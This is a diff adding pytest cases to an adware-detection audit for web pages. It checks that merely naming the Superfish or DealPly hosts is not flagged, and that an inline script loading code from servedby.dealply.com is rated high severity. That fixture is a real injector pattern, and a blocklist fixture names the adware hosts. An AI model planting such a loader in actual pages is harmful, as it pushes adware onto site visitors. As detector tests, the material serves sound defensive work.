@@ -107,3 +107,25 @@ def test_a_pages_address_carried_otherwise_is_none(audit_html: AuditHtml, footer
 def test_spoilt_address_on_a_page_of_unknown_address(audit_html: AuditHtml) -> None:
     html = page(footer=_INJECTOR).replace(f'<link rel="canonical" href="{URL}">', "")
     assert [s for s, _ in _adware(audit_html(html, url=None))] == [Severity.MEDIUM]
+
+
+@pytest.mark.parametrize("footer", [
+    # an article about Superfish showing its logo, hotlinked from the family's site
+    '<p>Lenovo shipped Superfish.</p><img src="http://www.superfish.com/images/logo.png" '
+    'alt="Superfish">',
+    # a connection hint requests nothing
+    '<link rel="preconnect" href="https://servedby.dealply.com">',
+    # a cleaner's or a detector's list names the hosts; it loads none of them
+    '<script>var blocked=["http://www.superfish.com/ws/sf_main.jsp","https://servedby.dealply'
+    '.com/dealdo/setcck"];function isAdware(u){return blocked.some(function(b){return '
+    'u.indexOf(b)>=0})}</script>',
+])
+def test_a_family_named_but_not_loaded_as_code_is_none(audit_html: AuditHtml,
+                                                       footer: str) -> None:
+    assert _adware(audit_html(page(footer=footer), url=URL)) == []
+
+
+def test_a_familys_loader_an_inline_script_inserts_is_high(audit_html: AuditHtml) -> None:
+    footer = ('<script>(function(){var s=document.createElement("script");s.src="//servedby.'
+              'dealply.com/dealdo/setcck?key0=a";document.body.appendChild(s);})();</script>')
+    assert [s for s, _ in _adware(audit_html(page(footer=footer), url=URL))] == [Severity.HIGH]
